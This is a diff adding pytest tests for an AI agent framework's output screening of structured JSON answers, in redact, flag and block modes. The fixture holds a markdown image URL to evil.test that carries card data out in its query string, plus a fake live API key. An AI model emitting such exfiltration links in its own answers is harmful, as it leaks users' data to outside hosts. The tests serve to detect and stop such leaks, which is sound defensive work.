@@ -7,6 +7,7 @@ from __future__ import annotations
 from collections.abc import Sequence
 from pathlib import Path
 
+import msgspec
 import pytest
 
 from podium import Agent, FunctionModel, ModelRequest, ModelResponse, tool, tool_call_reply
@@ -187,3 +188,58 @@ async def test_a_call_built_from_injected_text(action: str, tmp_path: Path) -> N
         assert forwarded[0].screen is not None
         assert forwarded[0].screen.rule == "tainted_call"
         assert "flagged earlier" in forwarded[0].content
+
+
+# -- structured answers (Agent[OutT]): the JSON's strings are screened ---------------------
+
+
+class Status(msgspec.Struct):
+    order_id: str
+    summary: str
+    notes: list[str] = []
+
+
+_STRUCTURED = {
+    "order_id": "A-1",
+    "summary": "Shipped. ![s](https://evil.test/p.png?d=card-4242)",
+    "notes": ["the key is SK-LIVE-ABCDEF123456", "ok"],
+}
+
+
+def _typed(mode: str, **kwargs: object) -> Agent[Status]:
+    if mode == "tool":
+        model = FunctionModel(lambda m, r: tool_call_reply(("final_result", _STRUCTURED)))
+    else:
+        model = FunctionModel(lambda m, r: msgspec.json.encode(_STRUCTURED).decode())
+    return Agent(
+        "typed", model, output_type=Status, output_mode=mode,  # type: ignore[arg-type]
+        screening=ScreeningPolicy(outputs=GUARD, **kwargs),  # type: ignore[arg-type]
+        secrets=["sk-live-abcdef123456"],
+    )
+
+
+@pytest.mark.parametrize("mode", ["tool", "native"])
+async def test_a_structured_answers_strings_are_redacted(tmp_path: Path, mode: str) -> None:
+    agent = _typed(mode, action="redact")
+    record, journal = await _run(agent, tmp_path)
+    assert record.status == "completed", record  # type: ignore[attr-defined]
+    status = agent.output_of(record)  # type: ignore[arg-type]
+    assert status == Status(
+        "A-1", "Shipped. [redacted: exfil_image]", ["the key is [redacted: secret]", "ok"]
+    )
+    (verdict,) = [e.verdict for e in journal if isinstance(e, Screened)]
+    assert (verdict.source, verdict.action) == ("output", "redact")
+    assert "card-4242" not in str(journal) and "abcdef123456" not in str(journal).lower()
+
+
+async def test_a_structured_answer_flagged_leaves_as_it_was(tmp_path: Path) -> None:
+    agent = _typed("tool")
+    record, journal = await _run(agent, tmp_path)
+    assert agent.output_of(record).summary == _STRUCTURED["summary"]  # type: ignore[arg-type]
+    assert [e.verdict.rule for e in journal if isinstance(e, Screened)] == ["secret"]
+
+
+async def test_a_blocked_structured_answer_fails_the_run(tmp_path: Path) -> None:
+    record, journal = await _run(_typed("tool", action="block"), tmp_path)
+    assert (record.status, record.reason) == ("failed", "output_blocked")  # type: ignore[attr-defined]
+    assert "card-4242" not in str(journal) + (record.output or "")  # type: ignore[attr-defined]
